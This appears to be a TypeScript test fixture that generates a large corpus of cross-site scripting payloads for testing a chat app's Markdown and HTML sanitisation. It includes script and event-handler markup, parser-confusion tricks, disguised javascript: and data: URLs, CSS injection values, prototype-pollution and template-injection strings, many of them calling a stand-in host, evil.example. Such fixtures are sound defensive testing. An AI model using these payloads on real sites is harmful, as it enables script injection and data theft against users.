import { isFull } from '../../../../tools/testing/size.ts';

// Payloads that have broken chats, Markdown renderers and theming, in many notations. A payload that runs sets `__xss`, opens
// a dialog, changes the title or requests `evil.example`; a monitored page detects each. Grouped in families: a sample has
// one of each.

const evil = 'https://evil.example';
const script = [
  '__xss=1',
  'alert(1)',
  "document.title='xss'",
  "postMessage('xss','*')",
  `fetch('${evil}')`,
  'window.Chatbot=1',
];
const scriptAt = (n: number) => script[n % script.length]!;

/** Markup that runs or loads something when inserted. `X` is the code. */
const markup = {
  scripts: [
    '<script>X</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script/x>X</script >',
    '<scr<script>ipt>X</scr</script>ipt>',
    '<script type=module>X</script>',
    '<script src="data:text/javascript,X"></script>',
    '<svg><script>X</script></svg>',
    '<svg><script href="data:text/javascript,X"/></svg>',
  ],
  images: [
    '<img src=x onerror=X>',
    '<img src=x onerror="X">',
    '<img/src=x/onerror=X>',
    '<img src=x:x onerror\n=X>',
    '<image src=x onerror=X>',
    '<img srcset="https://evil.example/a 1x">',
    '<img src=https://evil.example/pixel.gif>',
    '<img src="x` `<script>X</script>"` `>',
  ],
  svg: [
    '<svg onload=X>',
    '<svg/onload=X//',
    '<svg><animate onbegin=X attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:X"><text x=0 y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=X />#x"/></svg>',
    '<svg><set attributeName=href to=javascript:X>',
    '<svg><foreignObject><iframe onload=X></foreignObject></svg>',
    '<svg><image href=https://evil.example/x.svg>',
  ],
  frames: [
    '<body onload=X>',
    '<iframe src="javascript:X"></iframe>',
    '<iframe srcdoc="<script>parent.X</script>"></iframe>',
    '<iframe src=https://evil.example></iframe>',
    '<frameset onload=X>',
    '<object data="javascript:X"></object>',
    '<object data="data:text/html,<script>X</script>"></object>',
    '<embed src="javascript:X">',
    '<embed src=https://evil.example/x.swf allowscriptaccess=always>',
    '<applet code=X>',
  ],
  events: [
    '<math><mi xlink:href="javascript:X">x</mi></math>',
    '<math href="javascript:X">x</math>',
    '<details open ontoggle=X>',
    '<template><script>X</script></template>',
    '<template shadowrootmode=open><img src=x onerror=X></template>',
    '<input autofocus onfocus=X>',
    '<select autofocus onfocus=X>',
    '<textarea autofocus onfocus=X>',
    '<keygen autofocus onfocus=X>',
    '<button popovertarget=x onbeforetoggle=X>x</button>',
    '<div popover id=x onbeforetoggle=X>',
  ],
  forms: [
    '<form action="javascript:X"><button>x</button></form>',
    '<form><button formaction="javascript:X">x</button></form>',
    '<isindex type=image src=1 onerror=X>',
    '<video src=x onerror=X></video>',
    '<video><source onerror=X></video>',
    '<video poster=https://evil.example/p.png></video>',
    '<audio src=https://evil.example/a.mp3 autoplay>',
    '<marquee onstart=X>x</marquee>',
  ],
  links: [
    '<a href="javascript:X">x</a>',
    '<a href=https://evil.example ping=https://evil.example>x</a>',
    '<area href="javascript:X">',
    '<base href="https://evil.example/">',
    '<base href="javascript:X//">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<link rel=prefetch href=https://evil.example>',
    '<link rel=dns-prefetch href=//evil.example>',
    '<link rel=import href="data:text/html,<script>X</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:X">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv=set-cookie content=xss=1>',
  ],
  styles: [
    '<style>@import url(https://evil.example/x.css);</style>',
    '<style>*{background:url(https://evil.example/x)}</style>',
    '<style onload=X></style>',
    '<table background=https://evil.example/x><td>x',
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="width:expression(X)">x</div>',
    '<div onpointerover=X style="position:fixed;inset:0">x</div>',
  ],
  unknown: [
    '<x onclick=X tabindex=1 id=x>x</x>',
    '<parley-chat onclick=X>x</parley-chat>',
    '<xss contenteditable onbeforeinput=X>x</xss>',
    '<p onanimationstart=X style=animation:x>x',
    '<portal src=https://evil.example>',
    '<dialog open onclose=X>x</dialog>',
  ],
  comments: [
    '<?xml-stylesheet href="javascript:X"?>',
    '<![CDATA[<script>X</script>]]>',
    '<!--><script>X</script>-->',
    '<!--[if gte IE 4]><script>X</script><![endif]-->',
  ],
  parsers: [
    '<noscript><p title="</noscript><img src=x onerror=X>">',
    '<noembed><img title="</noembed><img src=x onerror=X>"></noembed>',
    '<style><img title="</style><img src=x onerror=X>">',
    '<xmp><p title="</xmp><img src=x onerror=X>">',
    '<listing>&lt;img src=x onerror=X&gt;</listing>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>',
    '<svg></p><style><a id="</style><img src=x onerror=X>">',
    '<svg><desc><title><a id="</title><img src=x onerror=X>">',
    '<select><template><style><!--</style><a rel="--></style></select><img src=x onerror=X>">',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=X></style></annotation-xml></math>',
  ],
  names: ['<img name=getElementById><img id=__proto__><form id=Chatbot><input name=attributes></form>'],
};

const entities = (text: string) => text.replace(/[<>"':/=]/g, (sign) => `&#${sign.charCodeAt(0)};`);
const hexEntities = (text: string) => text.replace(/./gsu, (sign) => `&#x${sign.codePointAt(0)!.toString(16)};`);
const percents = (text: string) =>
  text.replace(/[<>"' :/=()]/g, (sign) => `%${sign.charCodeAt(0).toString(16).padStart(2, '0')}`);
const unicodes = (text: string) =>
  text.replace(/[<>"'()]/g, (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`);
const wide = (text: string) => text.replace(/[<>"'():]/g, (sign) => String.fromCodePoint(sign.charCodeAt(0) + 0xfee0));

/** Contexts: breaking out of an attribute, element or string, and each Markdown construct. */
const contexts: Record<string, ((text: string) => string)[]> = {
  breakouts: [
    (text) => `">${text}`,
    (text) => `'>${text}`,
    (text) => `\`>${text}`,
    (text) => `</textarea></title></style></script>${text}`,
    (text) => `--></template></dialog>${text}`,
    (text) => `\\u003c/script>${text}`,
    (text) => `';X;'${text}`.replace('X', script[0]!),
  ],
  markdown: [
    (text) => `\`\`\`html\n${text}\n\`\`\``,
    (text) => `\`\`\`"${text}\n\`\`\``,
    (text) => `\`${text.replaceAll('`', '')}\``,
    (text) => `> ${text}`,
    (text) => `- a\n  - ${text}`,
    (text) => `1. ${text}`,
    (text) => `| a | ${text} |\n|---|---|\n| ${text} | b |`,
    (text) => `# ${text}`,
    (text) => `**${text}** _${text}_ ~~${text}~~`,
    (text) => `[${text}](https://example.com "${text}")`,
    (text) => `![${text}](https://evil.example/x.png)`,
    (text) => `\\${text}`,
    (text) => `a\\\n${text}\n\n${text}`,
  ],
  encodings: [entities, hexEntities, percents, unicodes, wide],
  spellings: [
    (text) => text.toUpperCase(),
    (text) => text.replace(/[a-z]/g, (character, at: number) => (at % 2 ? character.toUpperCase() : character)),
    (text) => text.replaceAll(' ', '\f'),
    (text) => text.replaceAll(' ', '/**/'),
    (text) => text.replaceAll('<', '<\u200b'),
    (text) => `\u202e${text}\u202c`,
    (text) => text.replace('<', '<\0'),
    (text) => text.replace(/on(\w+)=/, 'on$1\0='),
    (text) => `${'A'.repeat(300)}${text}${'B'.repeat(300)}`,
    (text) => `+ADw-${text.slice(1)}`,
    (text) => `\ud800${text}\udfff`,
  ],
};

/** Obfuscated schemes that a browser might accept. */
const disguises: ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${scheme.toUpperCase()}:`,
  (scheme) => `${scheme[0]!.toUpperCase()}${scheme.slice(1)}:`,
  (scheme) => ` ${scheme}:`,
  (scheme) => `\u0001${scheme}:`,
  (scheme) => `\u00a0${scheme}:`,
  (scheme) => `\ufeff${scheme}:`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}\n${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}\r${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 4)}\0${scheme.slice(4)}:`,
  (scheme) => `${scheme}\t:`,
  (scheme) => `${scheme}&colon;`,
  (scheme) => `${scheme}&#58;`,
  (scheme) => `${scheme}&#x3A;`,
  (scheme) => `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  (scheme) => `${scheme}%3A`,
  (scheme) => `%${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:`,
  (scheme) => `\\u00${scheme.charCodeAt(0).toString(16)}${scheme.slice(1)}:`,
  (scheme) => `\\${scheme}:`,
  (scheme) => `${scheme}://example.com/%0a`,
  (scheme) => `//${scheme}:`,
  (scheme) => `https:${scheme}:`,
  (scheme) => `feed:${scheme}:`,
  (scheme) => `view-source:${scheme}:`,
];
const schemes = [
  ['javascript', 'X'],
  ['vbscript', 'msgbox(1)'],
  ['data', 'text/html,<script>X</script>'],
  ['data', 'text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+'],
  ['blob', 'https://evil.example/1'],
] as const;

/** URLs other than web pages, email and phone links. */
export const hostileUrls = [
  ...schemes.flatMap(([scheme, rest], s) =>
    disguises.map((disguise, n) => disguise(scheme) + rest.replace('X', scriptAt(n + s))),
  ),
  'file:///etc/passwd',
  'ws://evil.example',
  'intent://x#Intent;scheme=https;end',
  'about:blank',
  'chrome://settings',
  'filesystem:https://evil.example/x',
  'jar:https://evil.example!/x',
  'ms-settings:',
  '//evil.example',
  '/\\evil.example',
  '#"><img src=x onerror=__xss=1>',
  'https://evil.example" onmouseover="__xss=1',
  "https://evil.example' style='background:url(https://evil.example/x)",
  'https://user:pass@evil.example',
  'https://xn--80ak6aa92e.com',
  'https://\u0430\u0440\u0440\u04cf\u0435.com',
  'https://evil.example\\@example.com',
  'mailto:a@example.com?subject="><script>__xss=1</script>',
  'tel:1"><script>__xss=1</script>',
  `https://evil.example/${'a'.repeat(3_000)}`,
];

/** Each Markdown syntax for links and images. */
const linkings: Record<string, ((url: string) => string)[]> = {
  inline: [(url) => `[x](${url})`, (url) => `![x](${url})`, (url) => `[x](<${url}>)`],
  alone: [
    (url) => `<${url}>`,
    (url) => `[x](${url} "title")`,
    (url) => `[![x](${url})](${url})`,
    (url) => `[[x](${url})](${url})`,
  ],
  references: [
    (url) => `[x]: ${url}\n\n[x] [x][x] ![x]`,
    (url) => `[${url}](${url})`,
    (url) => `**[x](${url})** ~~[_x_](${url})~~`,
    (url) => `> - [x](${url})`,
    (url) => `| [x](${url}) |`,
  ],
  broken: [
    (url) => `[x](https://example.com)(${url})`,
    (url) => `[x](https://example.com"onclick="${url})`,
    (url) => `[x](${url}`,
    (url) => `[x\n](\n${url}\n)`,
  ],
};

/** Style values: names, numbers, colours, and attempts to break out of them. */
export const hostileStyles = [
  'red',
  'transparent',
  '#fff',
  '#ggg000',
  '#0f766e;background:url(https://evil.example/a)',
  '#0f766e}*{background:url(https://evil.example/b)}',
  '#0f766e\n',
  'url(https://evil.example/c)',
  'url("https://evil.example/d") 0 0 / 1',
  'url(https://evil.example/e) 1',
  "url('data:image/svg+xml,<svg onload=__xss=1>')",
  'URL(//evil.example/f)',
  '\\75rl(https://evil.example/g)',
  'u/**/rl(https://evil.example/h)',
  'image-set("https://evil.example/i" 1x)',
  'image(https://evil.example/j)',
  'cross-fade(url(https://evil.example/k),red)',
  '-webkit-image-set(url(https://evil.example/l) 1x)',
  'element(#x)',
  'attr(data-x url)',
  'src("https://evil.example/m")',
  'expression(__xss=1)',
  'javascript:__xss=1',
  '@import "https://evil.example/n";',
  '@import url(//evil.example/o)',
  '@font-face{font-family:x;src:url(https://evil.example/p)}',
  '} * { display: none } {',
  '}</style><script>__xss=1</script>',
  '1px;position:fixed;inset:0',
  '1px !important',
  '1px/**/;}/**/',
  '1px}body{background:url(https://evil.example/q)}',
  '0)',
  '0) url(https://evil.example/r',
  'calc(1px * 1e9)',
  '99999999999',
  '-99999',
  'NaN',
  'Infinity',
  'var(--x)',
  'var(--x, url(https://evil.example/s))',
  'env(--x, url(https://evil.example/t))',
  'inherit',
  'revert',
  'background',
  'background-image',
  'border-image-source',
  'list-style-image',
  'mask-image',
  'cursor',
  'content',
  'filter',
  'all',
  'cssText',
  '--x',
  'on',
  'behavior:url(x.htc)',
  '-moz-binding:url(https://evil.example/u#x)',
  'left;background:url(https://evil.example/v)',
  'linear-gradient(red,red),url(https://evil.example/w)',
  'paint(x)',
  '\0url(https://evil.example/x)',
];

/** Values that become part of our URLs. */
const hostileVersions = [
  '/../../../evil',
  '//evil.example/x',
  '\\\\evil.example\\x',
  '?//evil.example/',
  '#//evil.example/',
  '%2f%2fevil.example',
  '@evil.example',
  '\n//evil.example/',
  '"><script>__xss=1</script>',
];

/** Keys, templates and characters that layers other than HTML might interpret. */
const others = {
  keys: [
    '__proto__',
    'constructor',
    'prototype',
    'toString',
    'valueOf',
    'hasOwnProperty',
    '{"__proto__":{"xss":1}}',
    '__proto__[xss]=1',
    'constructor.prototype.xss=1',
  ],
  templates: [
    '{constructor}',
    '{__proto__}',
    '{name}{n}{id}{time}',
    '{{7*7}}',
    '{{constructor.constructor("__xss=1")()}}',
    '${__xss=1}',
    '#{__xss=1}',
    '<%= __xss=1 %>',
    '{%raw%}{{__xss=1}}',
    '[[${__xss=1}]]',
    '$&$`$1$$',
    '%s%n%o%c',
    'javascript:__xss=1',
    'data:text/html,<script>__xss=1</script>',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\';alert(1)//",
    ');alert(1)//',
    '*/alert(1)/*',
    '\u2028alert(1)\u2029',
  ],
  directions: [
    '\u202egnp.exe\u202c',
    '\u2066\u2067\u2068\u2069\u061c\u200e\u200f',
    '\u200b\u200c\u200d\u2060\ufeff',
    `Z${'\u0310\u0311\u0312\u0313\u0314'.repeat(60)}`,
    '\ufdfd'.repeat(50),
    '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'.repeat(20),
  ],
  controls: [
    '\0',
    'a\0b<script>__xss=1</script>',
    '\ud800',
    '\udc00\ud800',
    '\x1b[31mred\x1b[0m',
    '\x07\x08\x0b\x0c\x0e\x7f\x85',
  ],
  protocols: [
    'data: x\n\nevent: message.created\ndata: {}\n\n',
    '\r\n\r\n<script>__xss=1</script>',
    '"}]}</script><script>__xss=1</script>',
  ],
  lengths: [
    `<${'div '.repeat(800)}onclick=__xss=1>`,
    `${'<b>'.repeat(900)}x`,
    `"${'\\"'.repeat(500)}`,
    'x'.repeat(3_900),
    '<'.repeat(2_000),
    '&'.repeat(2_000),
  ],
  escapes: [
    '&lt;script&gt;__xss=1&lt;/script&gt;',
    '&amp;lt;script&amp;gt;__xss=1',
    '%3Cscript%3E__xss=1%3C/script%3E',
    '\\x3cscript\\x3e__xss=1',
  ],
};

type Families<T> = readonly (readonly [family: string, member: T])[];
const inFamilies = <T>(kinds: Record<string, readonly T[]>): Families<T> =>
  Object.entries(kinds).flatMap(([kind, members]) => members.map((member) => [kind, member] as const));

const allContexts = inFamilies(contexts);
const allLinkings = inFamilies(linkings);
/** Each markup alone and in four contexts; each context gets a tenth of the markup. */
const corpus: Families<string> = [
  ...inFamilies(markup).flatMap(([family, text], n) => {
    const running = text.replaceAll('X', scriptAt(n));
    const around = [0, 1, 2, 3].map((turn) => {
      const [kind, context] = allContexts[(n * 4 + turn) % allContexts.length]!;
      return [`markup in ${kind}`, context(running)] as const;
    });
    return [[`markup: ${family}`, running] as const, ...around];
  }),
  ...allLinkings.flatMap(([family, linking], n) =>
    hostileUrls
      .filter((_url, at) => at % allLinkings.length === n || at % 17 === n)
      .map((url) => [`links: ${family}`, linking(url)] as const),
  ),
  ...hostileUrls.map((url) => [`urls: ${/^(javascript|data|https)/.exec(url)?.[0] ?? 'disguised'}`, url] as const),
  ...hostileStyles.map((text) => [`styles: ${/evil|[;}]/.exec(text)?.[0] ?? 'values'}`, text] as const),
  ...inFamilies(others),
];
const all: readonly string[] = [...new Set(corpus.map(([, text]) => text))];
/** The first of each family. */
const sample: readonly string[] = [...new Map(corpus.toReversed()).values()].toReversed();
export const payloads = isFull ? all : sample;
/** A sample of those without families. */
export const styles = isFull ? hostileStyles : hostileStyles.filter((_text, at) => at % 12 === 0);
export const versions = isFull ? hostileVersions : hostileVersions.filter((_text, at) => at % 3 === 0);

/** PostgreSQL cannot store these in JSON, so they are not sent through the log. */
export const isStorable = (text: string) => !text.includes('\0') && text.isWellFormed();
